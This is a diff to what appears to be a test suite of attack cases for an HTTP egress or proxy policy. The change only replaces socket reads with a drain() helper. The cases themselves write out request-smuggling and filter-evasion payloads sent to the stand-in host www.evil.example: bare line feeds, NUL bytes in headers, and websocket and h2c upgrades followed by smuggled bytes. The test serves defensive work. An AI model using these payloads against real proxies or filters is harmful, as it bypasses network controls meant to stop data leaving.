@@ -78,7 +78,7 @@ ATTACKS = [
     Attack("bare line feeds", """
 s = socket.create_connection((socket.gethostbyname("www.evil.example"), 80))
 s.sendall(b"GET /ok/a HTTP/1.1\\nHost: www.evil.example\\n\\nPOST /" + mark + b" HTTP/1.1\\n\\n")
-s.recv(1000); s.recv(1000)""", policy=POLICY, silent=False),
+drain(s)""", policy=POLICY, silent=False),
     http("bare carriage returns", f'"{OK}X: y\\rPOST: z\\n\\n" + {BAD}'),
     http("NUL in a header", f'"{OK}X: y\\0z\\n\\n" + {BAD}'),
     http("leading blank on the first line", '" GET /ok/" + MARKER + " HTTP/1.1\\nHost: www.evil.example\\n\\n"'),
@@ -111,12 +111,12 @@ s.sendall(mark); s.recv(10); s.sendall(mark); s.recv(10)""", policy=POLICY),
 s = socket.create_connection((socket.gethostbyname("www.evil.example"), 80))
 s.sendall(b"GET /ok/a HTTP/1.1\\r\\nHost: www.evil.example\\r\\nConnection: Upgrade\\r\\n"
           b"Upgrade: websocket\\r\\n\\r\\n")
-s.recv(1000); s.sendall(mark); s.recv(10)""", policy=POLICY, silent=False),
+s.recv(1000); s.sendall(mark); drain(s)""", policy=POLICY, silent=False),
     Attack("after a request for h2c", """
 s = socket.create_connection((socket.gethostbyname("www.evil.example"), 80))
 s.sendall(b"GET /ok/a HTTP/1.1\\r\\nHost: www.evil.example\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\n"
           b"Upgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n\\r\\n")
-s.recv(1000); s.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + mark); s.recv(10)""",
+s.recv(1000); s.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + mark); drain(s)""",
            policy=POLICY, silent=False),
 ]
 
